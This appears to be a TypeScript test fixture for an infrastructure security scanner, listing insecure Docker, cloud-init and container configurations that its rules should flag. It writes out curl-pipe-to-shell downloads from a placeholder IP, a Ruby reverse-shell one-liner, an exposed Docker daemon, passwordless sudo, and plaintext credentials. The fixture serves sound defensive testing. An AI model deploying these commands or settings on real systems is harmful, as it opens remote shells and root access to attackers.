import { given, resource } from "./case.ts";
import type { Neighbour } from "./case.ts";

const PROFILES = "container.security-profiles";
const BUILD = "docker.build";

const copy = (remotePath: string, text: string, rule: string) =>
  resource(`a copy to ${remotePath}`, "command:remote:CopyToRemote", { remotePath, source: { text } }, rule);
const inline = (text: string) =>
  resource(text, "docker-build:index:Image", { dockerfile: { inline: `FROM alpine:3.22\n${text}\n` } }, BUILD);
const SERVER = "hcloud:index/server:Server";
const base64 = (text: string) => Buffer.from(text).toString("base64");
const born = (text: string, rule: string) =>
  resource(`a cloud-config, ${text}`, SERVER, { userData: `#cloud-config\n${text}\n` }, rule);
const option = (text: string) => given(text, { securityOpts: ["no-new-privileges:true", text] }, PROFILES);

/** Files that are copied to a host, images by the commands of their Dockerfiles, and spellings of the daemon's. */
export const dangerousHosts: readonly Neighbour[] = [
  copy("/etc/docker/daemon.json", '{"hosts":["tcp://0.0.0.0:2375"]}', "command.root"),
  copy("/etc/sudoers.d/deploy", "deploy ALL=(ALL:ALL) NOPASSWD: ALL\n", "command.root"),
  copy("/etc/polkit-1/rules.d/49-a.rules", "polkit.addRule(() => polkit.Result.YES);", "command.root"),
  copy("/etc/ssh/sshd_config.d/a.conf", "PermitRootLogin yes\n", "command.passwords"),
  copy("/etc/apt/sources.list.d/a.list", "deb [trusted=yes] http://deb.example ./\n", "command.downloads"),
  copy("/etc/sysctl.d/a.conf", "kernel.unprivileged_bpf_disabled = 0\n", "command.protection"),
  copy(
    "/etc/systemd/system/docker.service.d/a.conf",
    "[Service]\nExecStart=\nExecStart=/usr/bin/dockerd -H tcp://0.0.0.0:2375\n",
    "command.root",
  ),

  inline("RUN wget -O- http://192.0.2.9/a | ash"),
  inline("RUN <<EOF\ncurl http://192.0.2.9/a | sh\nEOF"),
  inline('RUN ["sh", "-c", "curl http://192.0.2.9/a | sh"]'),
  inline("RUN curl -fsSLo /a https://files.example/a \\\n  && chmod +x /a \\\n  && /a"),
  inline("RUN curl -fsSLo /tmp/a.sh https://files.example/a.sh\nRUN sh /tmp/a.sh"),
  inline("WORKDIR /tmp\nRUN wget https://files.example/a.sh\nRUN sh /tmp/a.sh"),
  inline("RUN pip install --trusted-host pip.example a"),
  inline("RUN curl -k -o /a.json https://files.example/a.json"),
  inline("ENV NODE_TLS_REJECT_UNAUTHORIZED=0\nRUN npm ci"),
  inline("RUN echo 'root:toor' | chpasswd"),
  resource("a build of everything on this machine", "RemoteImage", { name: "x", build: { context: "/" } }, BUILD),
  resource("a build of /etc", "Image", { imageName: "x", build: { context: "/etc" } }, BUILD),

  born("runcmd: []\nchpasswd:\n  users: [{name: root, password: a, type: text}]", "command.passwords"),
  born("chpasswd:\n  list: |\n    ada:Summer2024", "command.passwords"),
  born("users:\n  - {name: ada, plain_text_passwd: Summer2024}", "command.passwords"),
  born("apt:\n  sources:\n    a: {source: 'deb [trusted=yes] http://deb.example ./'}", "command.downloads"),
  resource("an include", SERVER, { userData: "#include\nhttp://192.0.2.9/cloud-init\n" }, "command.downloads"),
  resource(
    "a script among the metadata",
    "gcp:compute/instance:Instance",
    { metadata: { "startup-script": "curl http://192.0.2.9/a | sh" } },
    "command.downloads",
  ),

  ...[
    "POSTGRES_HOST_AUTH_METHOD=trust",
    "POSTGRES_INITDB_ARGS=--auth-host=trust",
    "MYSQL_ALLOW_EMPTY_PASSWORD=yes",
    "MARIADB_ALLOW_EMPTY_ROOT_PASSWORD=1",
    "NEO4J_AUTH=none",
    `SETTINGS=${base64('{"db":{"password":"Zk3vQ9mX2LrT8w"}}')}`,
  ].map((one) => given(one, { envs: [one] }, "secret.in-environment")),
  given(
    "a login of a registry",
    {
      uploads: [
        {
          file: "/app/config.json",
          contentBase64: base64(`{"auths":{"r.example":{"auth":"${base64("ada:Zk3vQ9mX2")}"}}}`),
        },
      ],
    },
    "secret.plain-property",
  ),

  resource(
    "a password behind two signs",
    "command:local:Command",
    { create: "kubectl create secret generic a --from-literal=password=Zk3vQ9mX2LrT8w" },
    "secret.in-command",
  ),

  given("privileged, as 1", { privileged: "1" }, "container.privileged"),
  given("privileged, as T", { privileged: "T" }, "container.privileged"),
  given("a namespace by its path", { networkMode: "ns:/proc/1/ns/net" }, "container.host-namespaces"),
  option("writable-cgroups=true"),
  option("unmask=ALL"),
  given(
    "a shell of Ruby's",
    { command: ["ruby", "-rsocket", "-e", "c=TCPSocket.new('192.0.2.9',443);IO.popen(c.gets,'r'){|i|c.print i.read}"] },
    "container.remote-shell",
  ),
];
